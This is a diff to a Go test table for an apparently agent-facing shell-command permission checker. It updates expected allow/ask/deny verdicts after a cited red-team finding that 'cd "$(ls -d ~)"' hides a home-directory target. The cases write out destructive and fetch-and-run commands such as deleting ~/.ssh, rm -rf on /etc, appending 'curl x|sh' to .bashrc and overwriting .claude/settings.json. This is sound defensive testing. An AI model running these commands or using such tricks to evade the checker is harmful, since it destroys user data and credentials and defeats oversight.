@@ -22,10 +22,15 @@ func TestUnknownWorkingDirectory(t *testing.T) {
 	home := cfg.Home
 	tests := []struct{ cmd, want string }{
 		// The directory cd enters is only known at run time.
-		{`cd "$(ls -d ~)"; rm -rf .ssh`, "ask"},
-		{`cd "$(ls -d ~)"; echo 'curl x|sh' >> .bashrc`, "ask"},
+		{`cd "$(cat /tmp/d)"; rm -rf .ssh`, "ask"},
+		{`cd "$(cat /tmp/d)"; echo 'curl x|sh' >> .bashrc`, "ask"},
+		// ls -d prints the directory back (red team 16 PI1): bash enters
+		// the home directory, and the deletion is of ~/.ssh.
+		{`cd "$(ls -d ~)"; rm -rf .ssh`, "deny"},
+		{`cd "$(ls -d ~)"; echo 'curl x|sh' >> .bashrc`, "deny"},
 		{`cd "$X" && rm -rf .claude`, "ask"},
-		{`cd "$(ls -d /)"; rm -rf etc`, "ask"},
+		{`cd "$(ls -dt /)"; rm -rf etc`, "ask"},
+		{`cd "$(ls -d /)"; rm -rf etc`, "deny"},
 		{`cd "$(cat /tmp/d)" && echo '{}' > .claude/settings.json`, "deny"}, // the project's is protected too
 		// Names that are ordinary anywhere pass.
 		{`cd "$(mktemp -d)" && rm -rf build && echo x > out.txt`, "allow"},
@@ -84,7 +89,8 @@ func TestUnknownWorkingDirectory(t *testing.T) {
 		{`trap g DEBUG; g(){ echo hi; }; rm -rf build`, "allow"},
 		{`trap 'rm -f "$tmp"' EXIT; rm -rf build`, "allow"},
 		// cdable_vars with a value only run time knows.
-		{`shopt -s cdable_vars; X=$(ls -d ~); cd X; rm -rf .ssh`, "ask"},
+		{`shopt -s cdable_vars; X=$(cat /tmp/d); cd X; rm -rf .ssh`, "ask"},
+		{`shopt -s cdable_vars; X=$(ls -d ~); cd X; rm -rf .ssh`, "deny"},
 		// find -execdir runs in a directory of its starting point's tree.
 		{`find . -name '*.o' -execdir rm -rf lib \;`, "allow"},
 		{`find ~ -name x -execdir rm -rf .ssh \;`, "deny"},
